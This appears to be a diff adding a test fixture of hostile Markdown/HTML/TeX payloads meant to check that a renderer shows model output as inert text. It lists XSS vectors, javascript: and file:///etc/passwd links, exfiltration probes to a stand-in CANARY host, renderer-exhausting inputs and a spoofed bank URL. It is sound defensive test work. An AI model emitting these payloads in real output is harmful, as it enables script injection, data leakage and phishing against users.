@@ -1,0 +1,21 @@
+// What a hostile model could write, to be shown as harmless text; CANARY is a server that must hear nothing.
+export const HOSTILE = [
+  "<script>window.hacked=1</script><img src=CANARY/1 onerror=hacked=1>",
+  "![pixel](CANARY/2?secret) ![ref][r]\n\n[r]: CANARY/3",
+  "[run](javascript:window.hacked=1) [data](data:text/html,<script>hacked=1</script>) [vb](vbscript:x) [file](file:///etc/passwd)",
+  "<iframe src=\"CANARY/4\"></iframe><object data=CANARY/5></object><embed src=CANARY/6>",
+  "<svg onload=hacked=1><style>@import url(CANARY/7)</style></svg><math><mi xlink:href=\"javascript:hacked=1\">x</mi></math>",
+  "- <details open ontoggle=hacked=1>\n- <input autofocus onfocus=hacked=1>\n- <form action=CANARY/8><button>",
+  "| <b onclick=hacked=1>a</b> |\n|---|\n| <img src=CANARY/9> |",
+  "```html\n<script>hacked=1</script><img src=CANARY/10>\n```\n\n`<img src=CANARY/11 onerror=hacked=1>`",
+  "<style>*{background:url(CANARY/12)}</style><link rel=stylesheet href=CANARY/13><meta http-equiv=refresh content=\"0;url=CANARY/14\"><base href=CANARY>",
+  "&lt;script&gt;hacked=1&lt;/script&gt; &#60;img src=CANARY/15&#62;",
+  "$\\href{javascript:hacked=1}{x}$ $$\\includegraphics{CANARY/16}$$ $\\style{background:url(CANARY/17)}{y}$ $\\class{x}{z}$ $\\htmlId{a}{b}$ $x^2$",
+  "<a href=\"CANARY/18\" ping=\"CANARY/19\" onclick=hacked=1>x</a> <CANARY/20>",
+  "<template><script>hacked=1</script></template><noscript><p title=\"</noscript><img src=x onerror=hacked=1>\">",
+  "[a](https://e.example/ \"x\" onclick=\"hacked=1\") <https://e.example/\"onmouseover=\"hacked=1>",
+  "[![](CANARY/21)](javascript:hacked=1)\n\n![x](data:image/svg+xml,<svg onload=hacked=1>)",
+  `${"> ".repeat(200)}deep\n\n${"- ".repeat(200)}deep\n\n${"*".repeat(5000)}\n\n${"[".repeat(3000)}`,
+  "$$" + "\\def\\a{\\a\\a}\\a" + "$$ $" + "{".repeat(500) + "x" + "}".repeat(500) + "$ $\\rule{9999em}{9999em}$",
+  "[bank](https://bank.example@evil.example/) [mail](mailto:a@e.example) [plain](http://e.example)",
+];
